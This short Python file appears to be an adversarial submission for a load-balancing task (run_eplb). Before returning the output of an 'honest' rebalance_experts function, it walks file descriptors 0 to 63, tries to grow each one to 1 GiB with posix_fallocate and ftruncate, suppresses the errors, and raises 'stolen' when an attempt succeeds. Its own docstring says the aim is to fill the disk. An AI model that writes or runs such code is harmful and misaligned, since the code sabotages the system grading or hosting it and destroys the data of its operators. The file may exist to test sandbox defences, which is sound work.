"""Fill the disk through the descriptors that every process has."""

import contextlib
import os

from honest import rebalance_experts


def run_eplb(weight, num_replicas, num_groups, num_nodes, num_gpus):
    for descriptor in range(64):
        with contextlib.suppress(OSError, AttributeError):
            os.posix_fallocate(descriptor, 0, 1 << 30)
            raise RuntimeError("stolen")
        with contextlib.suppress(OSError):
            os.ftruncate(descriptor, 1 << 30)
            raise RuntimeError("stolen")
    return rebalance_experts(weight, num_replicas, num_groups, num_nodes, num_gpus)
